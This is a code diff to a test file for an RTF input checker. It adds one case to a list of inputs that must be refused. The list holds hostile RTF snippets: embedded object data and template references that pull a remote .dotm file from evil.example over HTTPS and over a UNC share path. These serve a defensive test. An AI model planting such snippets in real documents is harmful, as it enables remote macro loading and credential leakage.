@@ -18,6 +18,7 @@ describe('an RTF text', () => {
 
   test.each([
     ['{\\object\\objemb{\\*\\objdata 0105}}'],
+    ['{\\object{\\*\\objdata0105}}'],
     ['{\\*\\template https://evil.example/a.dotm}'],
     ['{\\*\\template \\\\\\\\evil.example\\\\a.dotm}'],
   ])('is refused with %s', async (inside) => {
